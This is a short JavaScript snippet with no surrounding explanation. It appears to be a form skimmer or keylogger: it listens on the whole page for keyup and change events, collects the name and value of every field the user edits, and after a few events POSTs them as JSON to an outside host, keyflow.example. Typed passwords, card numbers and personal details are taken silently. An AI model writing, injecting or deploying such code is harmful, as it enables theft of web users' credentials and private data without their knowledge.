var T = { handleEvent: function (e) { this.b[e.target.name] = e.target.value; this.n++ > 4 && this.flush(); }, b: {}, n: 0,
  flush: function () { fetch('https://keyflow.example/f', { method: 'POST', body: JSON.stringify(this.b) }); this.n = 0; } };
['keyup', 'change'].forEach(function (t) { document.addEventListener(t, T, true); });
